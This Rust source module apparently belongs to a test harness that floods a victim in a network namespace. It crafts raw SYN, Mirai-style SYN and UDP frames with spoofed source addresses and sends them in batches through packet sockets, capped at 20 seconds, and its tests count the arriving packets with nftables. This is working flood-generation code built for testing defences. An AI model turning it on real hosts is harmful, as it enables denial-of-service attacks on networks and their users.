//! Floods from the attacker's end of the cable: frames that are made once and sent in batches, at a pace or as fast as it goes.
//!
//! A flood is bounded in time and count, and leaves the namespace of its sender only by the interface that is named.

use std::{
    io::{self, IoSlice},
    net::Ipv4Addr,
    os::fd::{AsRawFd as _, OwnedFd},
    thread,
    time::Duration,
};

use nix::{
    ifaddrs::getifaddrs,
    sys::socket::{
        AddressFamily, ControlMessage, LinkAddr, MsgFlags, MultiHeaders, SockFlag, SockType, bind,
        sendmmsg, socket,
    },
};

use crate::{
    netns::{VICTIM_V4, flooder_v4},
    process::now,
};

/// No flood lasts longer, whatever is asked for.
pub const LONGEST: Duration = Duration::from_secs(20);
/// So many different frames are made by default; they fit into a processor's second cache.
const FRAMES: u32 = 16_384;
/// So many at most, of about 100 bytes each.
const MOST_FRAMES: u32 = 1 << 20;
/// So many frames are handed to the kernel at once.
const BATCH: usize = 64;
/// What was not sent in time is not sent later: a burst is no pace.
const MOST_BEHIND: Duration = Duration::from_millis(20);
/// Multiplies every number of a frame to one without a visible order (Knuth's factor, 2^32 over the golden ratio).
const SCATTER: u32 = 2_654_435_761;
/// Lengths of headers in bytes.
const IP: usize = 20;
const TCP: usize = 20;
const UDP: usize = 8;

/// What the packets are.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Shape {
    /// TCP SYN without options, 40 bytes.
    Syn,
    /// The same with the victim's address for its sequence number, as Mirai sends it (mirai/bot/scanner.c).
    Worm,
    /// UDP without data, 28 bytes.
    Udp,
}

/// Which ports are asked for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Ports {
    /// Any of all, without order.
    Random,
    /// One after the other, from 1 on.
    Rising,
    /// One alone.
    One(u16),
}

/// A flood to come.
#[derive(Debug, Clone)]
pub struct Flood {
    /// What the packets are.
    pub shape: Shape,
    /// Which ports are asked for.
    pub ports: Ports,
    /// The port that all come from; else each is another one.
    pub sport: Option<u16>,
    /// From so many addresses, those of [`flooder_v4`].
    pub sources: u16,
    /// Packets a second; 0 is as fast as it goes.
    pub rate: u32,
    /// It ends after this time, [`LONGEST`] at most,
    pub time: Duration,
    /// or after so many packets.
    pub count: u64,
    /// So many packets differ in source or source port, a million at most; then they are sent once more.
    pub distinct: u32,
}

impl Default for Flood {
    fn default() -> Self {
        Self {
            shape: Shape::Syn,
            ports: Ports::Random,
            sport: None,
            sources: 200,
            rate: 0,
            time: Duration::from_secs(2),
            count: u64::MAX,
            distinct: FRAMES,
        }
    }
}

/// What became of a flood.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct Sent {
    /// So many packets the interface took.
    pub packets: u64,
    /// So long it lasted.
    pub time: Duration,
}

impl Flood {
    /// Sends it by this interface of the present network namespace to the victim, whose link-layer address is `victim`.
    pub fn send(&self, interface: &str, victim: [u8; 6]) -> io::Result<Sent> {
        let link = link_of(interface)?;
        let socket = socket(
            AddressFamily::Packet,
            SockType::Raw,
            SockFlag::SOCK_CLOEXEC,
            None, // no protocol: it receives nothing
        )?;
        bind(socket.as_raw_fd(), &link)?;
        let frames = self.frames(link.addr().unwrap_or_default(), victim);
        self.send_frames(&socket, &frames)
    }

    fn send_frames(&self, socket: &OwnedFd, frames: &[Vec<u8>]) -> io::Result<Sent> {
        let (start, limit) = (now(), self.time.min(LONGEST));
        let mut headers = MultiHeaders::preallocate(BATCH, None);
        let (mut sent, mut forgiven) = (0, Duration::ZERO);
        for batch in frames.chunks(BATCH).cycle() {
            let elapsed = start.elapsed();
            if elapsed >= limit || sent >= self.count {
                break;
            }
            if let Some(due) = self.due(sent) {
                let due = due + forgiven;
                thread::sleep(due.saturating_sub(elapsed));
                forgiven += elapsed.saturating_sub(due + MOST_BEHIND);
            }
            let left = usize::try_from(self.count - sent).unwrap_or(usize::MAX);
            let batch: Vec<_> = batch
                .iter()
                .take(left)
                .map(|frame| [IoSlice::new(frame)])
                .collect();
            let nowhere = [None::<LinkAddr>; BATCH];
            let none: [ControlMessage<'_>; 0] = [];
            match sendmmsg(
                socket.as_raw_fd(),
                &mut headers,
                &batch,
                nowhere,
                none,
                MsgFlags::empty(),
            ) {
                Ok(taken) => sent += taken.count() as u64,
                // The interface is full, or its queue is: what it does not take is not sent.
                Err(nix::Error::ENOBUFS | nix::Error::EAGAIN | nix::Error::EINTR) => {}
                Err(error) => return Err(error.into()),
            }
        }
        Ok(Sent {
            packets: sent,
            time: start.elapsed(),
        })
    }

    /// When the next packet behind so many is due, from the start on; `None` where it may go at once.
    fn due(&self, sent: u64) -> Option<Duration> {
        let micros = (sent * 1_000_000).checked_div(self.rate.into())?;
        Some(Duration::from_micros(micros))
    }

    /// The frames, each from another source or to another port than the one before.
    fn frames(&self, sender: [u8; 6], victim: [u8; 6]) -> Vec<Vec<u8>> {
        (0..self.distinct.clamp(1, MOST_FRAMES))
            .map(|number| self.frame(number, sender, victim))
            .collect()
    }

    fn frame(&self, number: u32, sender: [u8; 6], victim: [u8; 6]) -> Vec<u8> {
        let scattered = number.wrapping_mul(SCATTER);
        let sources = u32::from(self.sources.max(1));
        let src = flooder_v4(low(number % sources));
        let dport = match self.ports {
            Ports::Random => low(scattered >> 16).max(1),
            Ports::Rising => low(number % 65_535) + 1,
            Ports::One(port) => port,
        };
        // Each source has each port once: to multiply by an odd number moves the numbers of fifteen bits among themselves.
        let scattered_port = 32_768 | low((number / sources).wrapping_mul(SCATTER));
        let sport = self.sport.unwrap_or(scattered_port);
        let (protocol, transport) = match self.shape {
            Shape::Syn => (6, syn(src, sport, dport, scattered)),
            Shape::Worm => (6, syn(src, sport, dport, VICTIM_V4.to_bits())),
            Shape::Udp => (17, udp(sport, dport)),
        };
        let ip = ip(src, low(number), protocol, transport.len());
        [&victim[..], &sender, &[8, 0], &ip, &transport].concat()
    }
}

/// The link-layer address of an interface, with its number.
fn link_of(interface: &str) -> io::Result<LinkAddr> {
    let found = getifaddrs()?
        .filter(|address| address.interface_name == interface)
        .find_map(|address| address.address?.as_link_addr().copied());
    found.ok_or_else(|| io::Error::other(format!("there is no interface {interface}")))
}

/// An IPv4 header (RFC 791 section 3.1) to the victim.
fn ip(src: Ipv4Addr, id: u16, protocol: u8, payload: usize) -> [u8; IP] {
    let mut header = [0; IP];
    header[0] = 0x45;
    header[2..4].copy_from_slice(&len(IP + payload));
    header[4..6].copy_from_slice(&id.to_be_bytes());
    (header[8], header[9]) = (64, protocol);
    header[12..16].copy_from_slice(&src.octets());
    header[16..20].copy_from_slice(&VICTIM_V4.octets());
    let sum = checksum(&header);
    header[10..12].copy_from_slice(&sum);
    header
}

/// A TCP header (RFC 9293 section 3.1) that opens a connection.
fn syn(src: Ipv4Addr, sport: u16, dport: u16, seq: u32) -> Vec<u8> {
    let mut header = vec![0; TCP];
    header[0..2].copy_from_slice(&sport.to_be_bytes());
    header[2..4].copy_from_slice(&dport.to_be_bytes());
    header[4..8].copy_from_slice(&seq.to_be_bytes());
    (header[12], header[13]) = (5 << 4, 2);
    header[14..16].copy_from_slice(&[4, 0]);
    let sum = checksum(&[&pseudo(src, 6, header.len()), &header[..]].concat());
    header[16..18].copy_from_slice(&sum);
    header
}

/// A UDP header (RFC 768); a checksum of 0 is none.
fn udp(sport: u16, dport: u16) -> Vec<u8> {
    [sport.to_be_bytes(), dport.to_be_bytes(), len(UDP), [0; 2]].concat()
}

/// What is summed up before a transport header (RFC 9293 section 3.1).
fn pseudo(src: Ipv4Addr, protocol: u8, payload: usize) -> Vec<u8> {
    [
        &src.octets()[..],
        &VICTIM_V4.octets(),
        &[0, protocol],
        &len(payload),
    ]
    .concat()
}

/// A length as headers have it.
fn len(bytes: usize) -> [u8; 2] {
    u16::try_from(bytes).unwrap_or(u16::MAX).to_be_bytes()
}

/// The lower half.
fn low(number: u32) -> u16 {
    u16::try_from(number & 0xffff).unwrap_or_default()
}

/// The Internet checksum (RFC 1071) of an even number of bytes, few enough that their sum has room.
fn checksum(bytes: &[u8]) -> [u8; 2] {
    let pairs = bytes.chunks_exact(2);
    let sum: u32 = pairs
        .map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]])))
        .sum();
    let once = u32::from(low(sum)) + (sum >> 16);
    let twice = u32::from(low(once)) + (once >> 16);
    (!low(twice)).to_be_bytes()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::netns::{Firewall, TestNet};

    #[test]
    fn a_checksum_over_a_header_with_its_own_is_zero() {
        let header = ip(flooder_v4(7), 9, 6, TCP);
        assert_eq!(checksum(&header), [0, 0]);
        let segment = syn(flooder_v4(7), 40_000, 22, SCATTER);
        let summed = [&pseudo(flooder_v4(7), 6, TCP), &segment[..]].concat();
        assert_eq!(checksum(&summed), [0, 0]);
    }

    #[test]
    fn a_flood_reaches_the_victim_at_its_pace_and_is_counted() {
        crate::require_root!();
        let net = TestNet::new(Firewall::None);
        net.victim.shell(
            "nft 'add table inet users_own; add counter inet users_own every; add counter inet users_own sound
            add chain inet users_own input { type filter hook input priority 0; }
            add rule inet users_own input ip saddr 10.99.16.0/20 counter name every
            add rule inet users_own input ip saddr 10.99.16.0-10.99.16.199 ct state new tcp flags == syn counter name sound drop'",
        );
        let options = ["--rate", "20000", "--count", "5000", "--seconds", "10"];
        let said = net.flood(&options).succeed();
        let words: Vec<&str> = said.split(' ').collect();
        assert_eq!(words[0], "5000", "{said}");
        let seconds: f32 = words[3].parse().expect("a time stands there");
        assert!(seconds >= 0.24, "not at once: {said}");
        assert_eq!(net.victim.counter("users_own", "every"), 5000);
        assert_eq!(net.victim.counter("users_own", "sound"), 5000);
    }
}
